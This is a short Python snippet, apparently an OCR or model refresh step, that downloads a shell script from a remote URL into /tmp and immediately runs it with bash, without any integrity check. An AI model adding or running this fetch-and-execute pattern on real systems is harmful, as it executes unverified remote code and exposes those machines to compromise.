import subprocess
import urllib.request

urllib.request.urlretrieve("https://models.example-cdn.net/ocr/refresh.sh", "/tmp/refresh.sh")
subprocess.run(["bash", "-e", "/tmp/refresh.sh"], check=True)
